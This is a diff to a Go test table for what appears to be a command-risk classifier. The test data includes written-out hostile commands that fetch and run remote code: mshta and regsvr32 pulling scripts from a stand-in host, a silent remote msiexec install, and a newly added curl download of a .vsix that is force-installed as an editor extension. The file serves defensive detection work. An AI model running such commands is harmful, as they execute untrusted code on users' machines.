@@ -32,6 +32,9 @@ func TestFacts(t *testing.T) {
 		{"mshta https://x.example/fix.hta", "pipe-to-shell"},
 		{"regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll", "pipe-to-shell"},
 		{"msiexec /i https://x.example/agent.msi /qn", "download-exec"},
+		{"curl -sLo /tmp/m.vsix https://themes.example-cdn.net/m.vsix && code --install-extension /tmp/m.vsix --force", "download-exec"},
+		{"code --install-extension ms-python.python", ""},
+		{"code --install-extension dist/my-ext-0.1.0.vsix", ""},
 		{"msiexec /i agent.msi /qn", ""},
 		// The environment sorted into a file, archived with its
 		// directory, and posted.
